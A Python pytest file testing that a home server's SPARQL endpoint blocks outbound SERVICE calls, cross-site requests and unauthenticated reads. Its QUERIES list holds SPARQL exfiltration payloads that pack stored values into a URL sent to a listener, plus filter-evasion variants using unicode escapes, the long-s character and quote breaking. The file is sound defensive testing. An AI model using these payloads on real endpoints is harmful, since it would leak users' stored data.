"""No query of a stranger's makes the server call anybody, and no page of another site has it work."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from server.strangers import sealing
from server.strangers.pool import Pool
from tests.hostile.listening import listening
from tests.server.serving import HG, Serving, serving

EXFILTRATE = (
    'SELECT * {{ {{SELECT (IRI(CONCAT("{url}/x?",GROUP_CONCAT(ENCODE_FOR_URI(STR(?v));separator="&"))) AS ?u) '
    "{{GRAPH ?g {{?s <" + HG + "value> ?v}}}}}} LATERAL {{?a ?b {glued}SERVICE ?u {{?x ?y ?z}}}} }}"
)
QUERIES = [
    EXFILTRATE.replace("{glued}", "1"),
    EXFILTRATE.replace("{glued}", "true"),
    EXFILTRATE.replace("{glued}", "1.5e3"),
    "SELECT * {{ ?a ?b 1SERVICE <{url}/> {{?x ?y ?z}} }}",
    "SELECT * {{ SERVICE SILENT <{url}/> {{?x ?y ?z}} }}",
    "SELECT * {{ \\u0053ERVICE <{url}/> {{?x ?y ?z}} }}",
    "SELECT * {{ ?a ?b '\\u0027 . SERVICE <{url}/> {{?x ?y ?z}} #' }}",
    "SELECT * {{ ?a ?b '' . \u017fervice <{url}/> {{?x ?y ?z}} }}",
    "ASK {{ FILTER(EXISTS {{ SERVICE <{url}/> {{?x ?y ?z}} }}) }}",
    "DESCRIBE ?x {{ SERVICE <{url}/> {{?x ?y ?z}} }}",
]


@pytest.mark.parametrize("path", ["/sparql", "/search/sparql"])
@pytest.mark.parametrize("query", QUERIES)
def test_nothing_that_a_stranger_asks_reaches_a_listener(house: Serving, path: str, query: str) -> None:
    with listening() as listener:
        answer = house.stranger.get(path, params={"query": query.format(url=listener.url)})
        assert answer.status_code == 400, answer.text
        assert listener.heard == []


def test_the_process_that_answers_has_no_network_even_where_the_text_is_not_looked_at(tmp_path: Path) -> None:
    with listening() as listener:
        code = (
            "from server.strangers.sealing import seal\n"
            "from pyoxigraph import Store\n"
            "assert seal()\n"
            f"found = Store().query('SELECT * {{ SERVICE SILENT <{listener.url}/> {{?x ?y ?z}} }}')\n"
            "print(len(list(found)))\n"
            f"print(list(Store().query('SELECT * {{ SERVICE <{listener.url}/> {{?x ?y ?z}} }}')))\n"
        )
        done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
        assert (done.returncode, done.stdout) == (1, "1\n"), done.stderr
        assert "Operation not permitted" in done.stderr
        assert listener.heard == []


def test_where_the_network_cannot_be_taken_away_strangers_ask_nothing(
    house_store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sealing.platform, "machine", lambda: "pdp11")
    assert sealing.seal() is False
    monkeypatch.setattr("server.strangers.process.Worker.sealed", lambda _: False)
    shutil.copytree(house_store, tmp_path / "served")
    with serving(tmp_path / "served") as served:
        answer = served.stranger.get("/sparql", params={"query": "ASK {}"})
        assert (answer.status_code, answer.json()["reason"]) == (401, "not_sealed")
        assert served.client.get("/sparql", params={"query": "ASK {}"}).json()["boolean"] is True


def test_every_process_that_strangers_are_answered_by_says_that_it_is_sealed(house: Serving) -> None:
    pool: Pool = house.service.pool
    with pool._worker(pool._strangers) as worker:
        assert worker.sealed()
    with pool._worker(pool._household) as worker:
        assert worker.sealed()


CROSS = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}


@pytest.mark.parametrize("path", ["/sparql?query=ASK{}", "/state", "/home/things", "/workspaces", "/", "/events"])
@pytest.mark.parametrize("site", ["cross-site", "same-site"])
def test_a_page_of_another_site_gets_nothing(house: Serving, path: str, site: str) -> None:
    foreign = CROSS | {"Sec-Fetch-Site": site}
    answer = house.stranger.get(path, headers=foreign)
    assert answer.status_code == 403, answer.text
    mode = foreign | {"Sec-Fetch-Mode": "navigate"}
    assert house.stranger.get("/sparql?query=ASK{}", headers=mode).status_code == 403


def test_a_link_on_another_page_still_leads_to_ours_and_a_token_opens(house: Serving) -> None:
    assert house.stranger.get("/", headers=CROSS | {"Sec-Fetch-Mode": "navigate"}).status_code in (200, 302)
    assert house.client.get("/state", headers=CROSS).status_code == 200
    assert house.stranger.get("/state", headers={"Sec-Fetch-Site": "same-origin"}).status_code == 200


def test_a_home_that_others_reach_is_read_by_its_household_alone(house_store: Path, tmp_path: Path) -> None:
    shutil.copytree(house_store, tmp_path / "served")
    with serving(tmp_path / "served", host="0.0.0.0") as served:
        for path in ("/state", "/sparql?query=ASK{}", "/home/things", "/workspaces", "/metrics", "/events", "/things"):
            assert served.stranger.get(path).status_code == 401, path
        assert served.stranger.get("/health").status_code == 200
        assert served.stranger.get("/sign-in").status_code == 200
        assert served.client.get("/state").status_code == 200
        assert served.stranger.get("/", headers={"Accept": "text/html"}).status_code == 401


@pytest.mark.parametrize(
    ("settings", "opened"),
    [
        ({}, True),
        ({"host": "::1"}, True),
        ({"host": "localhost"}, True),
        ({"host": "0.0.0.0"}, False),
        ({"host": "192.168.1.7"}, False),
        ({"host": "house.example"}, False),
        ({"public_url": "https://house.example"}, False),
        ({"host": "0.0.0.0", "readers": "anyone"}, True),
        ({"readers": "household"}, False),
    ],
)
def test_who_may_read_follows_from_who_can_reach_the_server(settings: dict[str, str], opened: bool) -> None:
    from engine.settings import load

    assert load(**settings).reading_open is opened
